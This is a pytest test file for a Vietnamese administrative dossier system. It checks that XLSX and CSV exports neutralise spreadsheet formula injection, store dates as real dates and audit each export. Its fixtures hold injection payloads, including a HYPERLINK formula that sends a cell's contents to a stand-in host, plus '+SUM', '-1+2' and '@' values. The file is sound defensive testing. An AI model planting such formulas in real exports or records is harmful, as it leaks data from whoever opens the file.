"""Every export keeps hostile text as text, writes dates as dates and says what it is (issues 17.1, 19.8, 19.12)."""
from __future__ import annotations

import csv
import io
from datetime import datetime

import pytest
from factories import act, procedure, receive, vn
from openpyxl import load_workbook

from onestop.extensions import db
from onestop.models import AuditLog

EVIL = '=HYPERLINK("http://x/?"&E5,"…")'
MARCH = {"kind": "month", "year": 2025, "month": 3}


def plain_text(cell, text: str) -> bool:
    """The cell holds `text` as text: never a formula; the quote prefix or a leading apostrophe keeps it inert."""
    if cell.data_type == "f":
        return False
    if cell.value == text:
        return cell.data_type == "s" and bool(cell.quotePrefix)
    return cell.value == "'" + text


# -- the reception register ------------------------------------------------

@pytest.fixture
def register(demo, auth):
    """Two dossiers of 2026; the first one's applicant and address came in as formulas."""
    a = receive("1.009994", at=vn(2026, 3, 2, 9, 0))
    # What an online submission or the national portal's sync may bring, whatever the desk's form checks.
    a.applicant_name, a.applicant_address = EVIL, "-1+2"
    act(a, "forward", "tiepnhan", at=vn(2026, 3, 2, 10, 0))
    act(a, "complete", "chuyenvien", at=vn(2026, 3, 5, 10, 0))
    act(a, "return", "tiepnhan", at=vn(2026, 3, 6, 9, 0), collected_by="@Nguyễn Thị Nhận")
    b = receive("1.004227", at=vn(2026, 3, 3, 14, 30))
    db.session.commit()
    auth.login("tiepnhan")
    return a, b


def register_sheet(client):
    response = client.get("/reception/register.xlsx?year=2026")
    assert response.status_code == 200 and "spreadsheetml" in response.mimetype
    return load_workbook(io.BytesIO(response.data)).active


def test_register_xlsx_keeps_a_formula_name_as_text(client, register):
    ws = register_sheet(client)
    first = ws[3]
    assert first[1].value == register[0].code
    assert plain_text(first[4], EVIL)  # Tên cá nhân, tổ chức
    assert plain_text(first[5], "-1+2")  # Địa chỉ
    assert plain_text(first[13], "@Nguyễn Thị Nhận")  # Trả kết quả – Người nhận
    assert not any(cell.data_type == "f" for row in ws.iter_rows() for cell in row)
    assert ws[4][4].value == "Nguyễn Văn Đức" and not ws[4][4].quotePrefix  # ordinary names stay as they are


def test_register_xlsx_dates_are_real_dates(client, register):
    ws = register_sheet(client)
    first, second = ws[3], ws[4]
    moments = {7: datetime(2026, 3, 2, 9, 0), 9: datetime(2026, 3, 2, 10, 0), 10: datetime(2026, 3, 5, 10, 0),
               11: datetime(2026, 3, 6, 9, 0)}
    for column, moment in moments.items():
        cell = first[column]
        assert cell.is_date and cell.value == moment, column
        assert cell.number_format == "dd/mm/yyyy hh:mm"
    assert isinstance(first[8].value, datetime) and first[8].number_format == "dd/mm/yyyy hh:mm"  # appointment
    assert second[7].value == datetime(2026, 3, 3, 14, 30)  # local wall-clock time, not UTC
    assert second[11].value is None  # not returned yet
    assert [c.value for c in first[:4]] == [1, register[0].code, "Cấp giấy phép xây dựng nhà ở riêng lẻ", 1]


# -- the reports -------------------------------------------------------------

@pytest.fixture
def hostile_catalogue(demo, auth):
    """A procedure whose name and field were imported as formulas, with one dossier in March 2025."""
    proc = procedure("1.009994")
    proc.name, proc.field = EVIL, "+SUM(A1:A9)"
    db.session.commit()
    dossier = receive("1.009994", at=vn(2025, 3, 3, 9, 0))
    act(dossier, "forward", "tiepnhan", at=vn(2025, 3, 3, 10, 0))
    act(dossier, "complete", "chuyenvien", at=vn(2025, 3, 5, 10, 0))
    auth.login("admin")


def test_reports_xlsx_keeps_formulas_as_text(client, hostile_catalogue):
    response = client.get("/reports/export.xlsx", query_string=MARCH)
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.data))
    assert not any(cell.data_type == "f" for ws in book for row in ws.iter_rows() for cell in row)
    procedures = book["Theo thủ tục"]
    row = procedures[4]
    assert row[0].value == "1.009994"
    assert plain_text(row[1], EVIL) and plain_text(row[2], "+SUM(A1:A9)")
    assert row[4].value == 0 and row[5].value == 1 and row[5].data_type == "n"  # numbers stay numbers
    fields = book["Theo lĩnh vực"]
    assert plain_text(fields[4][0], "+SUM(A1:A9)")


def test_reports_csv_prefixes_formulas_with_an_apostrophe(client, hostile_catalogue):
    response = client.get("/reports/export.csv", query_string={**MARCH, "table": "procedures"})
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8")[1:])))
    row = next(r for r in rows[1:] if r[0] == "1.009994")
    assert row[1] == "'" + EVIL and row[2] == "'+SUM(A1:A9)"
    assert row[4:8] == ["0", "1", "1", "1"]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r)


def test_csv_content_type_names_the_charset_once(client, hostile_catalogue):
    response = client.get("/reports/export.csv", query_string=MARCH)
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"].startswith("attachment; filename=")
    assert client.get("/reports/export.xlsx", query_string=MARCH).headers["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")


def test_an_export_is_audited_by_the_request_commit(client, hostile_catalogue):
    assert client.get("/reports/export.csv", query_string={**MARCH, "table": "fields"}).status_code == 200
    assert client.get("/reports/export.csv", query_string={**MARCH, "table": "nope"}).status_code == 422
    db.session.rollback()  # only what the requests committed is left
    details = db.session.execute(db.select(AuditLog.details).filter_by(action="report.export")).scalars().all()
    assert [d["tables"] for d in details] == [["fields"]]
